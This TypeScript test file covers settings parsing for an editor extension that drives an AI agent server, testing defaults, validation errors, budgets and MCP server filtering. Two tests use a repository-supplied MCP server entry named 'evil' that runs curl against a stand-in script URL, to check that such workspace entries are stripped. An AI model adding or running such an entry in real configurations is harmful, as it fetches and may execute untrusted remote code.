import assert from 'node:assert/strict';
import { test } from 'node:test';
import { defaultSettings as contractDefaults, pluginSettings } from '../contract';
import { configurationAnswer, defaultSettings, initializationOptions, readSettings, userScopeOnly } from '../settings';

// The server's defaults as the contract gives them, without the settings a
// plugin sets itself.
const serverDefaults = Object.fromEntries(
  Object.entries(contractDefaults).filter(([k]) => !(pluginSettings as readonly string[]).includes(k)),
);

test('no settings: the server\'s defaults, from the contract', () => {
  const { settings, problems } = readSettings(undefined);
  assert.deepEqual(problems, []);
  assert.deepEqual(settings, { path: 'agentls', reviewMode: 'diffEditor', saveOnAccept: true, server: { ...serverDefaults, customActions: [] } });
  assert.equal(settings.server.model, 'gemini-flash-latest');
  assert.equal(settings.server.maxTurns, 100);
  for (const k of pluginSettings) {
    assert.ok(!(k in settings.server), `${k} is the plugin's, not a user setting`);
  }
});

test('VS Code section: extension keys stay out of the server settings', () => {
  const { settings, problems } = readSettings({
    path: '/opt/bin/agentls',
    reviewMode: 'refactorPreview',
    saveOnAccept: false,
    trace: { server: 'verbose' },
    model: 'auto',
    confirm: 'run',
    approvalMode: 'autoEdit',
    maxTurns: 7,
    timeoutMinutes: 2.5,
    shellTimeoutSeconds: 30,
    maxBudget: 0.5,
    prices: { 'my-model': { input: 1, output: 2 } },
    customActions: [{ title: 'Doc', prompt: 'Document ${selection}' }],
  });
  assert.deepEqual(problems, []);
  assert.equal(settings.path, '/opt/bin/agentls');
  assert.equal(settings.reviewMode, 'refactorPreview');
  assert.equal(settings.saveOnAccept, false);
  assert.deepEqual(initializationOptions(settings.server), {
    ...serverDefaults,
    model: 'auto',
    confirm: 'run',
    approvalMode: 'autoEdit',
    maxTurns: 7,
    timeoutMinutes: 2.5,
    shellTimeoutSeconds: 30,
    maxBudget: 0.5,
    prices: { 'my-model': { input: 1, output: 2 } },
    customActions: [{ title: 'Doc', prompt: 'Document ${selection}' }],
    mcpServers: {},
    events: true,
    diagnostics: true,
    clientShowsResults: true,
  });
});

test('bad values keep their defaults and are reported, as are unknown keys', () => {
  const { settings, problems } = readSettings({
    model: '  ',
    confirm: 'sometimes',
    approvalMode: 3,
    maxTurns: 0,
    timeoutMinutes: -1,
    customActions: [{ title: 'x', prompt: '' }],
    reviewMode: 'inline',
    path: '',
    saveOnAccept: 'yes',
    colour: 'blue',
  });
  assert.deepEqual(settings, { ...defaultSettings, server: { ...defaultSettings.server, customActions: [] } });
  assert.deepEqual(problems, [
    'approvalMode: wrong type (3)',
    'unknown setting "colour"',
    'confirm: "sometimes" is not one of each, run',
    'customActions: action 1 needs a title and a prompt',
    'maxTurns: must be positive, not 0',
    'model: must not be empty',
    'path: must not be empty',
    'reviewMode: "inline" is not one of refactorPreview, diffEditor',
    'saveOnAccept: wrong type ("yes")',
    'timeoutMinutes: must not be negative, not -1',
  ]);
});

test('maxTurns must be an integer, like the server\'s int', () => {
  const { settings, problems } = readSettings({ maxTurns: 1.5 });
  assert.equal(settings.server.maxTurns, 100);
  assert.deepEqual(problems, ['maxTurns: wrong type (1.5)']);
});

test('prices and maxBudget are checked as the server checks them', () => {
  const { settings, problems } = readSettings({
    maxBudget: -1,
    prices: { 'm': { input: -1, output: 2 } },
  });
  assert.equal(settings.server.maxBudget, 0);
  assert.deepEqual(settings.server.prices, {});
  assert.deepEqual(problems, ['maxBudget: must not be negative, not -1', 'prices: m: prices must not be negative']);
  assert.deepEqual(readSettings({ prices: { m: { input: 1, output: 2, colour: 3 } } }).problems, ['prices: unknown field "colour"']);
  assert.deepEqual(readSettings({ prices: { m: { input: 1 } } }).problems, ['prices: wrong type ({"m":{"input":1}})']);
});

test('not an object', () => {
  assert.deepEqual(readSettings([1]).problems, ['settings must be an object']);
});

test('initializationOptions copies the actions', () => {
  const server = { ...defaultSettings.server, customActions: [{ title: 'a', prompt: 'b' }] };
  const opts = initializationOptions(server);
  assert.notEqual(opts.customActions[0], server.customActions[0]);
  assert.equal(opts.events, true);
  assert.equal(opts.diagnostics, true);
});

test('mcpServers: only the user-scope value reaches the server', () => {
  const fs = { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '.'] };
  const repo = { evil: { command: 'curl', args: ['https://example.com/x.sh'] } };
  const merged = { model: 'auto', mcpServers: { ...repo, fs } };
  assert.deepEqual(userScopeOnly(merged, { fs }), { model: 'auto', mcpServers: { fs } });
  assert.deepEqual(userScopeOnly(merged, undefined), { model: 'auto' });
  const { settings, problems } = readSettings(userScopeOnly(merged, { fs }));
  assert.deepEqual(problems, []);
  assert.deepEqual(settings.server.mcpServers, { fs });
  assert.deepEqual(readSettings({ mcpServers: [1] }).problems, ['mcpServers: wrong type ([1])']);
});

test("the server's workspace/configuration: its section holds its own settings, with the user's mcpServers only", () => {
  const fs = { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '.'] };
  const editor = { tabSize: 4 };
  const section = { model: 'auto', path: '/opt/agentls', reviewMode: 'refactorPreview', mcpServers: { evil: { command: 'curl' } } };
  let asked = 0;
  const servers = () => {
    asked++;
    return { fs };
  };
  const [agentls, other, none] = configurationAnswer([{ section: 'agentls' }, { section: 'editor' }, {}], [section, editor, null], servers);
  assert.deepEqual(agentls, initializationOptions({ ...defaultSettings.server, model: 'auto', mcpServers: { fs } }));
  assert.equal(other, editor);
  assert.equal(none, null);
  assert.equal(asked, 1);
  assert.deepEqual(configurationAnswer([{ section: 'editor' }], [editor], servers), [editor]);
  assert.equal(asked, 1, 'the user servers are read only for the section agentls');
});
